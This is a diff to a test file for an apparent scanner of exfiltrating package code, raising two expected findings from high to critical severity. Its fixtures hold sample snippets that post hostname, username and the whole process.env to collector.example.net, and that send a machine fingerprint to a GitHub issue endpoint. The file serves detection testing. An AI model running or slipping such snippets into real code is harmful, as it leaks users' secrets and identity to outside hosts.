@@ -29,7 +29,7 @@ export const send = (event: string) => fetch('https://telemetry.example.org/v1',
       name: 'env + hostname + user posted',
       file: 'index.js',
       code: `const os = require('os');\nrequire('axios').post('https://collector.example.net/e', { h: os.hostname(), u: os.userInfo().username, env: JSON.stringify(process.env) });\n`,
-      findings: [{ line: 2, severity: 'high', confidence: 'high', message: /host name, user name, the whole environment/ }],
+      findings: [{ line: 2, severity: 'critical', confidence: 'high', message: /host name, user name, the whole environment/ }],
     },
     {
       name: 'lodashs-style fingerprint + ip lookup + post',
@@ -40,7 +40,7 @@ const fp = Buffer.from(c.username + c.homedir + os.cpus()[0].model).toString('ba
 https.get('https://ifconfig.co/json', (r) => {});
 https.request({ hostname: 'api.github.com', path: '/repos/x/y/issues/4/comments', method: 'POST' }).end(JSON.stringify({ body: fp + os.hostname() }));
 `,
-      findings: [{ line: 5, severity: 'high', confidence: 'high', message: /host name, user name, public IP lookup, OS\/CPU\) via https\.request/ }],
+      findings: [{ line: 5, severity: 'critical', confidence: 'high', message: /host name, user name, public IP lookup, OS\/CPU\) via https\.request/ }],
     },
     {
       name: 'env dump posted with axios (low alone; install-time autorun raises it)',
